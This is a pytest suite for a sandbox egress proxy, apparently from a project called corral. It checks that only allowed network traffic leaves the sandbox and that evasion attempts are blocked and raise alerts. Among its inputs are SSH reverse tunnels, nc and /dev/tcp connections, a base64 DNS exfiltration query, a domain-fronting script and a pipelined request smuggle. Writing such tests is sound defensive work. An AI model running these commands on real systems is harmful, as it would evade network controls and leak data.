"""Real clients inside a sandbox, real servers on the host: the proxy is the only way out.

Servers listen on 127.0.0.2 (inside a sandbox 127.0.0.1 is the sandbox's own loopback and
stays direct, NO_PROXY); a test that wants one reachable allows its exact IP:port, as a
policy must for any internal address. The gate is off throughout: what is proved here is
what the proxy and the sandbox enforce by themselves.
"""

from __future__ import annotations

import shutil
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from corral.ledger import Ledger
from corral.policy import Policy
from corral.sandbox import Sandbox
from corral.sandbox.backend import SandboxError
from corral.sandbox.bwrap import BwrapBackend

from ..procs import wait_for
from .servers import CertAuthority, GitServer, HTTPServer, PackageIndex, SSHServer


def net_policy(*allow: str, **network: Any) -> Policy:
    return Policy.from_dict(
        {
            "version": 1,
            "extends": "strict",
            "commands": {"default": "allow", "threats": False},
            "network": {"mode": "proxy", "allow": list(allow), **network},
        }
    )


@pytest.fixture
def ledger() -> Iterator[Ledger]:
    with Ledger.memory() as led:
        yield led


def sandbox(policy: Policy, ws: Path, ledger: Ledger, **kw: Any) -> Sandbox:
    return Sandbox(policy, ws, gate=False, ledger=ledger, **kw)


def net_events(ledger: Ledger, action_id: str | None = None) -> list[dict[str, Any]]:
    out = []
    for rec in ledger.records(kinds="event"):
        if rec.body.get("kind") in ("net", "dns") and (
            action_id is None or rec.action_id == action_id
        ):
            out.append(rec.body["fields"] | {"_action": rec.action_id, "_pid": rec.body["pid"]})
    return out


def test_the_sandbox_is_told_where_the_proxy_is(tmp_path: Path, ledger: Ledger) -> None:
    with sandbox(net_policy(), tmp_path, ledger) as sb:
        r = sb.run(
            "echo $HTTPS_PROXY $ALL_PROXY $NO_PROXY; git config http.proxy; cat /etc/resolv.conf"
        )
    assert "http://127.0.0.1:3128 socks5h://127.0.0.1:1080 localhost,127.0.0.1,::1" in r.stdout
    assert "nameserver 127.0.0.1" in r.stdout


def test_curl_and_urllib_reach_an_allowed_http_server(
    tmp_path: Path, ledger: Ledger, http_server: HTTPServer
) -> None:
    policy = net_policy(f"{http_server.host}:{http_server.port}")
    with sandbox(policy, tmp_path, ledger) as sb:
        r = sb.run(f"curl -sS --max-time 10 {http_server.url}/")
        assert r.exit_code == 0, r.stderr
        assert r.stdout == "hello from corral test server\n"
        u = sb.run(
            'python3 -c "import urllib.request as u; '
            f"print(u.urlopen('{http_server.url}/', timeout=10).read().decode(), end='')\""
        )
        assert u.exit_code == 0, u.stderr
        assert u.stdout == "hello from corral test server\n"
    assert http_server.hits == ["/", "/"]
    for result in (r, u):
        (ev,) = [e for e in net_events(ledger, result.action_id) if e["type"] == "net"]
        assert ev["allowed"] and ev["protocol"] == "http" and ev["host"] == "127.0.0.2"
        assert ev["pattern"] == f"127.0.0.2:{http_server.port}"
        assert isinstance(ev["_pid"], int) and ev["process"]  # the client process, named


def test_curl_and_urllib_reach_an_allowed_https_server(
    tmp_path: Path, ledger: Ledger, https_server: HTTPServer, test_ca: CertAuthority
) -> None:
    shutil.copy(test_ca.ca_pem, tmp_path / "ca.pem")
    policy = net_policy(f"{https_server.host}:{https_server.port}")
    with sandbox(policy, tmp_path, ledger) as sb:
        r = sb.run(f"curl -sS --max-time 10 --cacert ca.pem {https_server.url}/")
        assert r.exit_code == 0, r.stderr
        assert r.stdout == "hello from corral test server\n"
        u = sb.run(
            'python3 -c "import ssl, urllib.request as u; '
            "c = ssl.create_default_context(cafile='ca.pem'); "
            f"print(u.urlopen('{https_server.url}/', timeout=10, context=c).read().decode(), end='')\""
        )
        assert u.exit_code == 0, u.stderr
        assert u.stdout == "hello from corral test server\n"
    for result in (r, u):
        (ev,) = [e for e in net_events(ledger, result.action_id) if e["type"] == "net"]
        assert ev["allowed"] and ev["protocol"] == "connect"


def test_a_port_not_allowed_gets_a_403_naming_the_rule(
    tmp_path: Path, ledger: Ledger, http_server: HTTPServer, https_server: HTTPServer
) -> None:
    policy = net_policy("127.0.0.2:1")  # some other port
    with sandbox(policy, tmp_path, ledger) as sb:
        r = sb.run(f"curl -sS --max-time 10 -w '%{{http_code}}' {http_server.url}/")
        assert r.stdout.endswith("403")
        # An internal address: the first rule it fails is the explicit-IP one.
        assert "rule net-internal" in r.stdout and f"127.0.0.2:{http_server.port}" in r.stdout
        s = sb.run(f"curl -sS --max-time 10 -k {https_server.url}/")
        assert s.exit_code != 0 and "403" in s.stderr
        u = sb.run(
            'python3 -c "import urllib.request as u, urllib.error as e\n'
            f"try: u.urlopen('{http_server.url}/', timeout=10)\n"
            'except e.HTTPError as x: print(x.code, x.read().decode())"'
        )
        assert u.stdout.startswith("403 ") and "net-" in u.stdout
    assert http_server.hits == [] and https_server.connections() == 0
    for result in (r, s, u):
        evs = [e for e in net_events(ledger, result.action_id) if e["type"] == "net"]
        assert len(evs) == 1 and not evs[0]["allowed"]


def test_resolved_internal_addresses_need_an_explicit_ip_rule(
    tmp_path: Path, ledger: Ledger, http_server: HTTPServer
) -> None:
    from corral.egress.host import EgressProxy

    # A name that resolves to the host's loopback (the stand-in resolver plays DNS):
    # allowing the name is not enough, the address needs an IP rule of its own.
    name = "corral-test.internal"
    proxy = EgressProxy(hosts={name: [http_server.host]})
    url = f"http://{name}:{http_server.port}/"
    try:
        backend = BwrapBackend(egress=proxy)
        by_name = net_policy(f"{name}:{http_server.port}")
        with Sandbox(by_name, tmp_path, gate=False, ledger=ledger, backend=backend) as sb:
            r = sb.run(f"curl -sS --max-time 10 -w '%{{http_code}}' {url}")
        assert r.stdout.endswith("403") and "net-internal" in r.stdout
        assert f"resolved to {http_server.host}" in r.stdout
        assert http_server.hits == []
        both = net_policy(f"{name}:{http_server.port}", f"{http_server.host}:{http_server.port}")
        with Sandbox(both, tmp_path, gate=False, ledger=ledger, backend=backend) as sb:
            r = sb.run(f"curl -sS --max-time 10 {url}")
        assert r.stdout == "hello from corral test server\n"
        assert http_server.hits == ["/"]
    finally:
        proxy.close()


def test_pip_download_from_an_allowed_index_and_a_clear_failure_when_not(
    tmp_path: Path, ledger: Ledger, package_index: PackageIndex
) -> None:
    # The system's pip: the test runner's own Python may live under a hidden path (/root).
    pip = "python3 -m pip download --no-deps --no-cache-dir --disable-pip-version-check"
    cmd = f"{pip} --index-url {package_index.url} {package_index.project} -d dl"
    allowed = net_policy(f"{package_index.host}:{package_index.port}")
    with sandbox(allowed, tmp_path, ledger) as sb:
        r = sb.run(cmd, timeout=120)
    assert r.exit_code == 0, r.stdout + r.stderr
    assert (tmp_path / "dl" / package_index.wheel_name).is_file()
    with sandbox(net_policy(), tmp_path, ledger) as sb:
        # pip reports an index's HTTP errors only at its debug level.
        r = sb.run(cmd.replace(" -d dl", " -d dl2") + " -vvv --retries 0 --timeout 5", timeout=120)
    assert r.exit_code != 0 and "403 Client Error: Forbidden" in r.stdout + r.stderr
    denied = [e for e in net_events(ledger, r.action_id) if e["type"] == "net"]
    assert denied and not any(e["allowed"] for e in denied)
    assert package_index.hits == [
        f"/simple/{package_index.project}/",
        f"/files/{package_index.wheel_name}",
    ]
    assert not (tmp_path / "dl2").exists() or not any((tmp_path / "dl2").iterdir())


def test_git_clone_over_http_when_allowed_and_a_clear_failure_when_not(
    tmp_path: Path, ledger: Ledger, git_server: GitServer
) -> None:
    allowed = net_policy(f"{git_server.host}:{git_server.port}")
    env = "GIT_TERMINAL_PROMPT=0"
    with sandbox(allowed, tmp_path, ledger) as sb:
        r = sb.run(f"{env} git clone -q {git_server.url} repo && cat repo/README", timeout=60)
    assert r.exit_code == 0, r.stderr
    assert r.stdout == git_server.readme
    with sandbox(net_policy(), tmp_path, ledger) as sb:
        r = sb.run(f"{env} git clone -q {git_server.url} repo2", timeout=60)
    assert r.exit_code != 0 and "403" in r.stderr


def test_ssh_tunnels_and_direct_connections_fail_fast(
    tmp_path: Path, ledger: Ledger, sshd_server: SSHServer
) -> None:
    key = tmp_path / "key"
    shutil.copy(sshd_server.client_key, key)
    key.chmod(0o600)
    before = sshd_server.connections()
    ssh = (
        f"ssh -i key -p {sshd_server.port} -o BatchMode=yes -o StrictHostKeyChecking=no"
        " -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5"
    )
    target = f"{sshd_server.user}@{sshd_server.host}"
    socks = "-o ProxyCommand='nc -X 5 -x 127.0.0.1:1080 %h %p'"
    attempts = [
        f"{ssh} {target} echo reached",
        f"{ssh} -N -R 9999:127.0.0.1:22 {target}",
        f"{ssh} -N -D 1081 {target}",
        f"{ssh} {socks} {target} echo reached",  # through the proxy: not allowed
        f"{ssh} {socks} -N -R 9999:127.0.0.1:22 {target}",
        f"nc -w 3 {sshd_server.host} {sshd_server.port} < /dev/null",
        "nc -w 3 8.8.8.8 53 < /dev/null",
        f"bash -c 'echo x > /dev/tcp/{sshd_server.host}/{sshd_server.port}'",
        "python3 -c \"import socket; socket.create_connection(('1.1.1.1', 443), timeout=3)\"",
        f"python3 -c \"import socket; socket.create_connection(('{sshd_server.host}', {sshd_server.port}), timeout=3)\"",
    ]
    with sandbox(net_policy(), tmp_path, ledger) as sb:
        for cmd in attempts:
            t0 = time.monotonic()
            r = sb.run(cmd, timeout=30)
            took = time.monotonic() - t0
            assert r.exit_code != 0, cmd
            assert "reached" not in r.stdout, cmd
            assert took < 10, f"{cmd} took {took:.1f}s"
    assert sshd_server.connections() == before


def test_socks5_carries_ssh_to_an_allowed_host_port(
    tmp_path: Path, ledger: Ledger, sshd_server: SSHServer
) -> None:
    key = tmp_path / "key"
    shutil.copy(sshd_server.client_key, key)
    key.chmod(0o600)
    before = sshd_server.connections()
    policy = net_policy(f"{sshd_server.host}:{sshd_server.port}")
    with sandbox(policy, tmp_path, ledger) as sb:
        r = sb.run(
            f"ssh -i key -p {sshd_server.port} -o BatchMode=yes -o StrictHostKeyChecking=no"
            " -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5"
            " -o ProxyCommand='nc -X 5 -x 127.0.0.1:1080 %h %p'"
            f" {sshd_server.user}@{sshd_server.host} echo reached",
            timeout=30,
        )
    assert r.stdout.strip() == "reached", r.stderr
    assert sshd_server.connections() == before + 1
    (ev,) = [e for e in net_events(ledger, r.action_id) if e["type"] == "net"]
    assert ev["protocol"] == "socks5" and ev["allowed"]


def test_dns_exfiltration_is_refused_and_raises_an_alert(tmp_path: Path, ledger: Ledger) -> None:
    with sandbox(net_policy(), tmp_path, ledger) as sb:
        r = sb.run("dig +tries=1 +time=3 $(echo secret | base64).x.example", timeout=30)
    assert "status: REFUSED" in r.stdout
    assert [a.detector for a in sb_alerts(ledger)] == ["dns-exfiltration"]
    alert = next(iter(ledger.records(kinds="alert")))
    assert alert.action_id == r.action_id
    assert alert.body["category"] == "exfiltration"
    (q,) = [e for e in net_events(ledger, r.action_id) if e["type"] == "dns"]
    assert q["name"].startswith("c2vjcmv0cg") and not q["allowed"]


def sb_alerts(ledger: Ledger) -> list[Any]:
    class A:
        def __init__(self, body: dict[str, Any]) -> None:
            self.detector = body["detector"]

    return [A(rec.body) for rec in ledger.records(kinds="alert")]


def test_domain_fronting_through_connect_is_cut(
    tmp_path: Path, ledger: Ledger, https_server: HTTPServer
) -> None:
    policy = net_policy(f"{https_server.host}:{https_server.port}")
    script = (
        "import socket, ssl\n"
        "s = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n"
        f"s.sendall(b'CONNECT {https_server.host}:{https_server.port} HTTP/1.1\\r\\n"
        f"Host: {https_server.host}:{https_server.port}\\r\\n\\r\\n')\n"
        "print(s.recv(100).split(b'\\r\\n')[0].decode())\n"
        "c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n"
        "try:\n"
        "    c.wrap_socket(s, server_hostname='forbidden.example').sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
        "    print('handshake done')\n"
        "except (OSError, ssl.SSLError) as e:\n"
        "    print('cut', type(e).__name__)\n"
    )
    (tmp_path / "front.py").write_text(script)
    with sandbox(policy, tmp_path, ledger) as sb:
        r = sb.run("python3 front.py", timeout=30)
    assert r.stdout.splitlines()[0] == "HTTP/1.1 200 Connection established"
    assert "cut" in r.stdout and "handshake done" not in r.stdout
    assert https_server.hits == []
    assert "domain-fronting" in [a.detector for a in r.alerts]


def test_budgets_and_methods(tmp_path: Path, ledger: Ledger, http_server: HTTPServer) -> None:
    allow = f"{http_server.host}:{http_server.port}"
    with sandbox(net_policy(allow, max_connections=2), tmp_path, ledger) as sb:
        codes = [
            sb.run(f"curl -s -o /dev/null -w '%{{http_code}}' {http_server.url}/").stdout
            for _ in range(3)
        ]
    assert codes == ["200", "200", "403"]
    with sandbox(net_policy(allow, max_bytes=100_000), tmp_path, ledger) as sb:
        r = sb.run(f"curl -s -o big {http_server.url}/big?n=10000000; wc -c < big")
    assert int(r.stdout.strip() or 0) < 1_000_000
    assert any(e.get("rule") == "net-budget" for e in net_events(ledger))
    with sandbox(net_policy(allow, methods=["GET"]), tmp_path, ledger) as sb:
        r = sb.run(f"curl -s -d x -w '%{{http_code}}' {http_server.url}/echo")
    assert r.stdout.endswith("403") and "net-method" in r.stdout


def test_an_episode_byte_budget_is_the_proxys_and_says_so(
    tmp_path: Path, ledger: Ledger, http_server: HTTPServer
) -> None:
    allow = f"{http_server.host}:{http_server.port}"
    policy = Policy.from_dict(
        {
            "version": 1,
            "extends": "strict",
            "commands": {"default": "allow", "threats": False},
            "network": {"mode": "proxy", "allow": [allow], "max_bytes": "1MiB"},
            "resources": {"episode": {"egress_bytes": 0}},  # rl-rollout's: nothing out
        }
    )
    before = http_server.connections()
    with sandbox(policy, tmp_path, ledger) as sb:
        r = sb.run(f"curl -s -w ' %{{http_code}}' {http_server.url}/")
    assert r.stdout.endswith(" 403")
    assert "resources.episode.egress_bytes" in r.stdout
    assert http_server.connections() == before


def test_killing_the_proxy_stops_the_sandbox_and_nothing_gets_out(
    tmp_path: Path, ledger: Ledger, http_server: HTTPServer
) -> None:
    from corral.egress.host import EgressProxy, wait_dead

    proxy = EgressProxy()
    policy = net_policy(f"{http_server.host}:{http_server.port}")
    sb = Sandbox(policy, tmp_path, gate=False, ledger=ledger, backend=BwrapBackend(egress=proxy))
    try:
        # A client that keeps trying, in the background, as a tunnel would.
        sb.run(
            f"(while true; do curl -s -o /dev/null --max-time 2 {http_server.url}/loop;"
            " sleep 0.05; done) > /dev/null 2>&1 &"
        )
        assert wait_for(lambda: len(http_server.hits) >= 2)
        proxy.proc.kill()
        at_kill = len(http_server.hits)
        assert wait_dead(proxy)
        time.sleep(1.0)
        # At most a request already in flight when the proxy died.
        assert len(http_server.hits) <= at_kill + 1
        with pytest.raises(SandboxError, match="stopped"):
            sb.run("echo still here")
    finally:
        sb.close()
    stops = [e for e in net_events(ledger) if e.get("type") == "stopped"]
    assert stops and "egress proxy" in stops[0]["reason"]


def test_corral_exec_and_log_show_the_way_out(tmp_path: Path, http_server: HTTPServer) -> None:
    from tests.test_cli import corral

    policy = tmp_path / "net.yaml"
    policy.write_text(
        "version: 1\nextends: strict\n"
        f"network:\n  mode: proxy\n  allow: ['{http_server.host}:{http_server.port}']\n"
    )
    home = tmp_path / "home"
    ws = tmp_path / "ws"
    ws.mkdir()

    def curl(url: str) -> Any:
        exec_ = ("exec", "--policy", str(policy), "--workspace", str(ws), "--no-gate", "--")
        return corral(home, *exec_, "curl", "-sS", url)

    r = curl(f"{http_server.url}/")
    assert r.returncode == 0, r.stderr
    assert r.stdout == "hello from corral test server\n"
    denied = curl(f"http://{http_server.host}:1/")
    assert "rule net-internal" in denied.stdout
    log = corral(home, "log").stdout
    assert f"net   allow http    GET {http_server.host}:{http_server.port}  net-allow pid" in log
    assert f"net   deny  http    GET {http_server.host}:1  net-internal" in log
    # Reported by the proxy as the command ended; the CLI waits for it before exiting.
    assert f"net   closed http {http_server.host}:{http_server.port}" in log


def test_request_bodies_pass_and_a_pipelined_second_request_does_not(
    tmp_path: Path, ledger: Ledger, http_server: HTTPServer
) -> None:
    policy = net_policy(f"{http_server.host}:{http_server.port}")
    script = (
        "import socket\n"
        "s = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n"
        f"a = b'GET {http_server.url}/first HTTP/1.1\\r\\nHost: {http_server.host}:{http_server.port}\\r\\n\\r\\n'\n"
        "b = b'GET /second HTTP/1.1\\r\\nHost: forbidden.example\\r\\n\\r\\n'\n"
        "s.sendall(a + b)\n"
        "data = b''\n"
        "while chunk := s.recv(65536):\n"
        "    data += chunk\n"
        "print(data.count(b'HTTP/1.'))\n"
    )
    (tmp_path / "pipe.py").write_text(script)
    with sandbox(policy, tmp_path, ledger) as sb:
        plain = sb.run(f"curl -sS -d 'plain body' {http_server.url}/echo")
        chunked = sb.run(
            f"printf 'chunked body' | curl -sS -H 'Transfer-Encoding: chunked'"
            f" --data-binary @- {http_server.url}/echo"
        )
        piped = sb.run("python3 pipe.py", timeout=30)
    assert plain.stdout == "plain body"
    assert chunked.stdout == "chunked body"
    assert piped.stdout.strip() == "1"
    assert http_server.hits == ["/echo", "/echo", "/first"]


def test_the_dns_stub_answers_allowed_names_only(tmp_path: Path, ledger: Ledger) -> None:
    from corral.egress.host import EgressProxy

    # A stand-in for the outside world's DNS: names this machine cannot resolve.
    proxy = EgressProxy(hosts={"pkgs.example.org": ["93.184.216.34"]})
    policy = net_policy("pkgs.example.org:443")
    try:
        backend = BwrapBackend(egress=proxy)
        with Sandbox(policy, tmp_path, gate=False, ledger=ledger, backend=backend) as sb:
            ok = sb.run("dig +short +tries=1 +time=3 pkgs.example.org")
            other = sb.run("dig +tries=1 +time=3 other.example.org")
            tcp = sb.run("dig +tcp +short +tries=1 +time=3 pkgs.example.org")
    finally:
        proxy.close()
    assert ok.stdout.strip() == "93.184.216.34"
    assert tcp.stdout.strip() == "93.184.216.34"
    assert "status: REFUSED" in other.stdout
    assert not ok.alerts and not other.alerts
    queries = [e for e in net_events(ledger) if e["type"] == "dns"]
    assert [(q["name"], q["allowed"]) for q in queries] == [
        ("pkgs.example.org", True),
        ("other.example.org", False),
        ("pkgs.example.org", True),
    ]
    assert all(isinstance(q["_pid"], int) for q in queries[:2])


def test_one_sandbox_cannot_hold_more_than_its_share_of_connections(
    tmp_path: Path, ledger: Ledger
) -> None:
    from corral.egress.server import MAX_OPEN

    script = (
        "import socket, time\n"
        f"held = [socket.create_connection(('127.0.0.1', 3128)) for _ in range({MAX_OPEN + 20})]\n"
        "time.sleep(0.5)\n"
        "cut = 0\n"
        "for s in held:\n"
        "    s.setblocking(False)\n"
        "    try:\n"
        "        cut += s.recv(1) == b''\n"
        "    except BlockingIOError:\n"
        "        pass\n"
        "print(cut)\n"
    )
    (tmp_path / "hold.py").write_text(script)
    with sandbox(net_policy(), tmp_path, ledger) as sb:
        r = sb.run("python3 hold.py", timeout=60)
    assert r.exit_code == 0, r.stderr
    assert int(r.stdout) == 20
    assert sum(e.get("rule") == "net-budget" for e in net_events(ledger, r.action_id)) == 20
